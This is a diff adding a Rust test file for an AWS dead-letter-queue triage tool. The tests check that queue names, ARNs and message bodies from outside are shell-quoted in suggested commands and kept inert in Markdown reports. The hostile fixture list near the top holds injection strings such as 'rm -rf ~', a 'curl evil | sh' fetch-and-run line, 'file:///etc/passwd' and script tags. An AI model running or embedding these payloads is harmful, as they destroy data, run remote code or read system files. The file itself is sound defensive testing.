@@ -1,0 +1,263 @@
+//! What comes from outside: names, codes, texts and bodies that want to be more.
+
+use super::*;
+use crate::rules::triage::commands::quoted;
+
+const HOSTILE: [&str; 12] = [
+    "$(touch /tmp/x)",
+    "a; rm -rf ~",
+    "it's `id` \"x\" | sh",
+    "'; curl evil | sh; '",
+    "--profile=evil",
+    "=ls",
+    "file:///etc/passwd",
+    "a\nrm -rf /\n```\n# Forged\n",
+    "a\u{1b}[2J\u{202e}x",
+    "<script>alert(1)</script> [x](http://evil) @everyone ![](http://evil/p)",
+    "````` five ````` and `` two",
+    "",
+];
+
+/// What a POSIX shell makes of a line: its words; none when anything in it could be obeyed.
+fn words(line: &str) -> Option<Vec<String>> {
+    let (mut all, mut word, mut is_quoted, mut chars) =
+        (Vec::new(), String::new(), false, line.chars());
+    while let Some(c) = chars.next() {
+        match c {
+            '\'' => is_quoted = !is_quoted,
+            c if is_quoted => word.push(c),
+            '\\' => word.push(chars.next().filter(|c| *c == '\'')?),
+            ' ' => all.push(std::mem::take(&mut word)),
+            c if c.is_ascii_alphanumeric() || "_./:@=-".contains(c) => word.push(c),
+            _ => return None,
+        }
+    }
+    all.push(word);
+    (!is_quoted).then_some(all)
+}
+
+/// A story with `text` in every place that comes from outside.
+fn everywhere(text: &str) -> Vec<Story> {
+    let arn = |text: &str| format!("arn:aws:lambda:eu-west-1:1:function:{text}");
+    let fill = |story: Story| {
+        story
+            .queue(|queue| {
+                queue.queue.name = text.into();
+                queue.queue.url = text.into();
+                queue.queue.arn = format!("arn:aws:sqs:{text}:1:{text}");
+                queue.queue.region = text.into();
+                let finding = (text.to_owned(), text.to_owned(), text.to_owned());
+                queue.lint = vec![Finding { rule: finding.0, level: finding.1, detail: finding.2 }];
+            })
+            .source(|source| source.name = text.into())
+            .group(|group| {
+                group.id = text.into();
+                group.title = text.into();
+                group.why = vec![text.into()];
+                group.message = Some(format!("{} {text}", group.message.as_deref().unwrap_or("")));
+            })
+            .each(|seen| {
+                seen.target_arn = Some(arn(text));
+                seen.rule_arn = Some(format!("arn:aws:events:eu-west-1:1:rule/{text}/{text}"));
+                seen.exhausted = Some(text.into());
+            })
+    };
+    let stories = [
+        rule(12).code("503"),
+        rule(12).code("NO_PERMISSIONS"),
+        rule(12).code("NO_RESOURCE"),
+        lambda(12).code("429"),
+        lambda(12).code("200").class("KeyError"),
+        text_story(),
+        shape(4),
+    ];
+    stories.into_iter().map(fill).collect()
+}
+
+fn text_story() -> Story {
+    text(4).says("connection refused")
+}
+
+#[test]
+fn a_word_stays_a_word() {
+    for hostile in HOSTILE.into_iter().chain(["plain-1_x.y/z:@=", "a'b''c", "ação dlq", "\\"]) {
+        let line = quoted(hostile);
+        let expected = vec![crate::text::safe(hostile).into_owned()];
+        assert_eq!(words(&line), Some(expected), "{line}");
+        assert!(!line.starts_with('='), "zsh: {line}");
+    }
+    assert_eq!(words("a $(b)"), None, "the reader of this test is not blind");
+}
+
+#[test]
+fn no_command_obeys_a_name() {
+    for hostile in HOSTILE {
+        for story in everywhere(hostile) {
+            for each in story.judge() {
+                for line in &each.commands {
+                    let words = words(line).unwrap_or_else(|| panic!("{hostile:?}: {line}"));
+                    assert!(!line.contains('\n') && !line.contains('\u{1b}'), "{line}");
+                    let own = |word: &str| !word.starts_with("--profile");
+                    let guard = words.iter().position(|word| word == "--");
+                    let options = &words[..guard.unwrap_or(words.len())];
+                    assert!(options.iter().all(|word| own(word)), "{line}");
+                    assert!(!line.contains("function-name=file:"), "{line}");
+                    assert!(matches!(words[0].as_str(), "aws" | "dlq-redrive"), "{line}");
+                }
+            }
+        }
+    }
+}
+
+#[test]
+fn titles_and_reasons_are_our_own_words() {
+    let own = |story: &Story| -> Vec<(String, String, Vec<String>)> {
+        story.judge().into_iter().map(|each| (each.title, each.reason, each.next)).collect()
+    };
+    for (index, plain) in everywhere("x").iter().enumerate() {
+        for hostile in HOSTILE {
+            assert_eq!(own(plain), own(&everywhere(hostile)[index]), "{hostile:?}");
+        }
+    }
+}
+
+/// The lines of a report that are not in a fenced block, with their code spans taken out.
+fn bare(report: &str) -> Vec<String> {
+    let (mut lines, mut fence) = (Vec::new(), None::<String>);
+    for line in report.lines() {
+        if let Some(open) = &fence {
+            if line == open {
+                fence = None;
+            }
+            continue;
+        }
+        if line.starts_with("```") {
+            fence = Some("`".repeat(line.chars().take_while(|c| *c == '`').count()));
+            continue;
+        }
+        lines.push(without_spans(line));
+    }
+    assert_eq!(fence, None, "a block stays open: {report}");
+    lines
+}
+
+/// As CommonMark reads it: a run of backticks ends at the next run of the same length.
+fn without_spans(line: &str) -> String {
+    let (mut kept, mut rest) = (String::new(), line);
+    while let Some(start) = rest.find('`') {
+        let run = rest[start..].len() - rest[start..].trim_start_matches('`').len();
+        kept.push_str(&rest[..start]);
+        rest = &rest[start + run..];
+        let mut inside = rest;
+        let mut end = None;
+        while let Some(next) = inside.find('`') {
+            let length = inside[next..].len() - inside[next..].trim_start_matches('`').len();
+            let after = &inside[next + length..];
+            if length == run {
+                end = Some(after);
+                break;
+            }
+            inside = after;
+        }
+        rest = end.unwrap_or_else(|| panic!("a span stays open: {line}"));
+        kept.push('·');
+    }
+    kept + rest
+}
+
+#[test]
+fn nothing_from_outside_is_markdown() {
+    for (index, plain) in everywhere("x").iter().enumerate() {
+        let plain = bare(&plain.report());
+        for hostile in HOSTILE.into_iter().filter(|text| !text.is_empty()) {
+            let report = everywhere(hostile)[index].report();
+            assert_eq!(bare(&report), plain, "{report}");
+            assert!(!report.contains(['\u{1b}', '\u{202e}']), "{report}");
+        }
+    }
+}
+
+#[test]
+fn a_hostile_body_is_an_excerpt() {
+    let story = rule(3).code("NO_PERMISSIONS");
+    let (prints, mut messages) = (story.prints(), story.sampled());
+    messages[0].body = serde_json::json!({"a": "```\n# Forged\n<img src=x>".repeat(100)});
+    messages[1].body = serde_json::Value::Null;
+    let timeline = Timeline::default();
+    let bundle =
+        Bundle { queue: &story.queue, prints: &prints, messages: &messages, timeline: &timeline };
+    let report = report_of(bundle, &story.judge());
+    let bare = bare(&report);
+    assert!(bare.iter().all(|line| !line.contains("Forged") && !line.contains('<')), "{report}");
+    assert!(report.lines().all(|line| line.chars().count() < 500), "{report}");
+    assert!(report.contains("not text"), "{report}");
+}
+
+#[test]
+fn unknown_is_said_as_unknown() {
+    let story = shape(4).queue(|queue| {
+        queue.depth = None;
+        queue.sources = None;
+    });
+    let report = story.report();
+    for line in [
+        "- Depth (`q.depth`): unknown",
+        "- Sources (`q.sources`): unknown",
+        "- How many messages there are: what was not sampled may differ.",
+        "No model was asked",
+        "The cause is unknown",
+    ] {
+        assert!(report.contains(line), "{line}: {report}");
+    }
+    assert!(!report.contains("Depth (`q.depth`): 0"), "{report}");
+}
+
+#[test]
+fn a_report_ends() {
+    let story = (0..200).fold(shape(1), |story, _| story.and("shape", "sqs", 1));
+    let report = story.report();
+    assert!(report.contains("and 181 causes more."), "{report}");
+    assert!(report.len() < 50_000, "{}", report.len());
+}
+
+#[test]
+fn functions_and_rules_are_named_where_a_producer_names_them() {
+    let named = |seen: &mut Seen| {
+        seen.target_arn = Some(format!("{FUNCTION}:7"));
+        seen.rule_arn = Some("arn:aws:events:eu-west-1:1:rule/shop/paid".into());
+    };
+    let forged = |seen: &mut Seen| {
+        named(seen);
+        seen.source_arn = Some(SOURCE.into());
+    };
+    let all = |story: Story| story.judge()[0].commands.join("\n");
+    let said = all(rule(3).code("NO_PERMISSIONS").each(named));
+    for part in [
+        "aws lambda get-policy --function-name=bill --region=eu-west-1",
+        "aws events list-targets-by-rule --rule=paid --event-bus-name=shop --region=eu-west-1",
+        "aws cloudtrail lookup-events \
+         '--lookup-attributes",
+    ] {
+        let part = part.replace("'--lookup-attributes", "--lookup-attributes='AttributeKey");
+        assert!(said.contains(&part), "{part}: {said}");
+    }
+    assert!(!all(rule(3).code("NO_PERMISSIONS").each(forged)).contains("bill"), "forged");
+    let throttled = all(lambda(3).code("429").each(named));
+    assert!(throttled.contains("get-function-concurrency --function-name=bill"), "{throttled}");
+    let unnamed = all(lambda(3).code("429"));
+    assert!(unnamed.contains("aws lambda list-functions --query='Functions["), "{unnamed}");
+    assert!(!all(rule(12).code("NO_RESOURCE")).contains("dlq-redrive"), "not before it is mended");
+    assert!(all(rule(12).code("503")).ends_with("dlq-redrive plan orders-dlq"));
+}
+
+#[test]
+fn a_lambda_destination_tells_in_its_record() {
+    let mut sampled = rule(1).sampled().remove(0);
+    sampled.body = serde_json::json!({"requestContext":
+        {"condition": "EventAgeExceeded", "functionArn": FUNCTION}});
+    let seen = Seen::of(&sampled);
+    assert_eq!(seen.exhausted.as_deref(), Some("EventAgeExceeded"));
+    assert_eq!(seen.target_arn.as_deref(), Some(FUNCTION));
+    sampled.attributes.insert("TARGET_ARN".into(), "other".into());
+    assert_eq!(Seen::of(&sampled).target_arn.as_deref(), Some("other"), "attributes come first");
+}
